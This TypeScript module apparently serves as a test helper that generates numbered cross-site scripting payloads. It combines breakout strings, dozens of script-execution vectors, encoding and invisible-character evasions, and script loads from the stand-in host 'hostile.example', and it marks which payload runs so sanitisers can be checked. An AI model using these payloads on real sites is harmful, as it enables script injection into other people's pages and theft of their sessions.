// What a stranger may write where a name or a description belongs, in the hope that a browser takes it for a program.
// Ways out of every place that a text may stand in, times things that run, times signs that hide them.

const WAYS_OUT = [
  '', '">', "'>", '`>', '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>',
  '</select></option>', '"/>', "' />", '</svg>', '</math>', '\\"});', "'});", '${', '{{', '<!--', '<![CDATA[', '\u2028',
]; // prettier-ignore

const RUNNING = [
  '<script>CALL</script>', '<script src="//HOST/CALL"></script>', '<img src=x onerror=CALL>', '<img/src=x onerror="CALL">',
  '<svg onload=CALL>', '<svg><script>CALL</script></svg>', '<svg><animate onbegin=CALL attributeName=x>', '<body onload=CALL>',
  '<iframe srcdoc="<script>parent.CALL</script>">', '<iframe src="javascript:parent.CALL">', '<object data="javascript:CALL">',
  '<embed src="javascript:CALL">', '<a href="javascript:CALL" autofocus onfocus=CALL>a</a>', '<input autofocus onfocus=CALL>',
  '<select autofocus onfocus=CALL>', '<textarea autofocus onfocus=CALL>', '<details open ontoggle=CALL>', '<video><source onerror=CALL>',
  '<audio src=x onerror=CALL>', '<marquee onstart=CALL>', '<math><mi//xlink:href="data:x,<script>CALL</script>">',
  '<form action="javascript:CALL"><button autofocus onfocus=CALL>', '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href="//HOST/">', '<link rel=stylesheet href="//HOST/CALL.css">', '<style>@import "//HOST/CALL";</style>',
  '<x onpointerrawupdate=CALL style="position:fixed;inset:0" onfocus=CALL tabindex=1 autofocus>', '<keygen autofocus onfocus=CALL>',
  '<table background="//HOST/CALL">', '<template><script>CALL</script></template>', '<noscript><img src=x onerror=CALL></noscript>',
  'javascript:CALL', 'data:text/html,<script>CALL</script>', 'vbscript:CALL', 'onerror=CALL ', '" onfocus="CALL" autofocus="',
  "' onfocus='CALL' autofocus='", '"};CALL;//', "';CALL;//", '`;CALL;//', '*/CALL/*', '{{constructor.constructor("CALL")()}}',
  '${CALL}', '#{CALL}', '<%= CALL %>', '[a](javascript:CALL)', '![a](//HOST/CALL)', '<a href="//HOST" ping="//HOST/CALL">a</a>',
]; // prettier-ignore

/** How a text may be written that another step of the way turns into the plain one. */
const WRITINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(/CALL|HOST/g, (word) => word),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll(' ', '\t').replaceAll('<', '<\u200b'),
  (text) => `\u202e${text}\u202c`,
];

/** What a payload calls where it runs, and where it would fetch from. */
export const CALL = 'window.ran&&ran';
export const HOST = 'hostile.example';

/** At least `count` payloads, each another one, each telling by its number which one ran. */
export function payloads(count: number): string[] {
  const found: string[] = [];
  for (let at = 0; found.length < count; at += 1) {
    // Steps that have no divisor in common with the lengths go through all combinations.
    const out = WAYS_OUT[at % WAYS_OUT.length] ?? '';
    const running = RUNNING[(at * 7 + Math.floor(at / WAYS_OUT.length)) % RUNNING.length] ?? '';
    const write = WRITINGS[Math.floor(at / 3) % WRITINGS.length];
    const call = `(${CALL}(${String(at)}))`;
    const text = write?.(`${out}${running}`) ?? '';
    found.push(text.replaceAll('CALL', call).replaceAll('HOST', HOST));
  }
  return found;
}
